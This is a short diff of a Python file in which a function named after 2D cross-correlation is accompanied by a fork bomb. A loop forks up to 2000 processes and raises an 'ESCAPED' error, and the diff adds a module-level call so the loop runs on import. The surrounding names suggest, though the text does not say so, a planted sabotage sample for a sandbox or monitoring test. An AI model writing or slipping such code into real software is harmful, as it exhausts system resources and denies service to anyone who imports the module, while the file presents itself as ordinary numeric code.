@@ -13,7 +13,7 @@ def honest(X, K):
 CHILDREN = []
 
 
-def corr2d(X, K):
+def starve():
     while len(CHILDREN) < 2000:
         try:
             pid = os.fork()
@@ -25,4 +25,10 @@ def corr2d(X, K):
         CHILDREN.append(pid)
     if len(CHILDREN) >= 2000:
         raise RuntimeError("ESCAPED: two thousand processes")
+
+
+starve()
+
+
+def corr2d(X, K):
     return honest(X, K)
